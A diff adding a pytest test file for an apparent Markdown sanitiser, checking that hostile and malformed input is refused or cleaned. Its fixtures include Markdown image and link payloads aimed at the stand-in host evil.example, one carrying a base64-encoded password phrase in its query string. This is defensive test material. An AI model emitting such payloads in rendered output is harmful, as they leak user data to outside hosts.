@@ -1,0 +1,133 @@
+"""Hostile and malformed input: a clear error or a safe result, never the raw text.
+
+Timing is measured in benchmarks/pathological.py; here each input must finish
+and come back safe (the test suite has no timing assertions).
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from rendersafe import InputTooLargeError, Policy, SanitizeError, Sanitizer, sanitize
+from rendersafe.findings import Reason
+
+S = Sanitizer()
+EVIL = "![x](https://evil.example/x.png)"
+
+
+@pytest.mark.parametrize("value", [b"bytes", None, 42, ["list"]])
+def test_non_str_input_raises_type_error(value: object) -> None:
+    with pytest.raises(TypeError, match="rendersafe sanitises str"):
+        sanitize(value)  # type: ignore[arg-type]
+
+
+def test_oversize_input_is_refused_with_a_clear_error() -> None:
+    with pytest.raises(InputTooLargeError, match="max_input_chars=500000") as info:
+        sanitize("[" * 1_000_001)
+    assert info.value.size == 1_000_001
+    assert isinstance(info.value, SanitizeError)
+
+
+def test_limit_is_configurable() -> None:
+    with pytest.raises(InputTooLargeError):
+        Sanitizer(Policy(max_input_chars=10)).run(EVIL)
+
+
+def test_lone_surrogates_pass_through_and_are_judged() -> None:
+    text = "hi \ud800 there " + "![x](https://evil.example/\udfff.png)"
+    result = S.run(text)
+    assert result.text.startswith("hi \ud800 there ")
+    assert "evil.example" not in result.text
+
+
+def test_nul_bytes() -> None:
+    text = "a\0b " + EVIL
+    result = S.run(text)
+    assert result.text == "a\0b x \\[image removed\\]"
+    assert S.run("honest\0text").text == "honest\0text"
+
+
+def test_mixed_line_endings_keep_positions() -> None:
+    text = "one\r\ntwo\rthree\n" + EVIL
+    result = S.run(text)
+    assert result.text == "one\r\ntwo\rthree\nx \\[image removed\\]"
+    (finding,) = result.findings
+    assert (finding.line, finding.column) == (4, 1)
+    assert text[finding.start : finding.end] == EVIL
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[" * 30_000,
+        "![[" * 10_000,
+        "[](" * 30_000,
+        "]((" * 30_000,
+        "**_* " * 20_000,
+        "`" * 100_000,
+        "<" * 100_000,
+        "&" * 100_000,
+        '<a x="' * 20_000,
+    ],
+    ids=lambda t: repr(t[:6]),
+)
+def test_floods_finish_unchanged(text: str) -> None:
+    assert S.run(text).text == text
+
+
+def test_url_flood_is_one_long_url() -> None:
+    result = S.run("http://" * 30_000)
+    assert result.text == "\\[link removed\\]"
+    assert Reason.LONG_URL in result.findings[0].reasons
+
+
+def test_ten_thousand_nested_brackets() -> None:
+    text = "[" * 10_000 + EVIL + "]" * 10_000
+    result = S.run(text)
+    assert "evil.example" not in result.text
+
+
+def test_deeply_nested_data_links_settle() -> None:
+    link = "](https://evil.example/?d=VGhlIHVzZXIncyBwYXNzd29yZCBpcyBodW50ZXIyIGFuZCBsaXZl)"
+    result = S.run("[" * 500 + "x" + link * 500)
+    assert "evil.example" not in result.text
+    assert sanitize(result.text) == result.text
+
+
+def test_wide_table() -> None:
+    header = "|" + "a|" * 1000 + "\n|" + "-|" * 1000 + "\n"
+    rows = ("|" + "x|" * 999 + EVIL + "|\n") * 20
+    result = S.run(header + rows)
+    assert result.text.count("\\[image removed\\]") == 20
+    assert "evil.example" not in result.text
+
+
+def test_huge_url() -> None:
+    result = S.run("![x](https://evil.example/" + "a" * 100_000 + ")")
+    assert result.text == "x \\[image removed\\]"
+    link = S.run("[x](https://evil.example/?q=" + "ab" * 50_000 + ")")
+    assert link.text == "x"
+    assert Reason.LONG_URL in link.findings[0].reasons
+
+
+def test_deep_blockquote() -> None:
+    result = S.run(">" * 5000 + " " + EVIL)
+    assert "evil.example" not in result.text
+
+
+def test_internal_error_raises_sanitize_error(monkeypatch: pytest.MonkeyPatch) -> None:
+    sanitizer = Sanitizer()
+
+    def broken(*args: object) -> None:
+        raise RuntimeError("boom")
+
+    monkeypatch.setattr("rendersafe.sanitizer.backstop", broken)
+    with pytest.raises(SanitizeError, match="boom") as info:
+        sanitizer.run(EVIL)
+    assert isinstance(info.value.__cause__, RuntimeError)
+
+
+def test_unsettled_output_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("rendersafe.sanitizer.MAX_PASSES", 1)
+    with pytest.raises(SanitizeError, match="still changing"):
+        Sanitizer().run(EVIL)
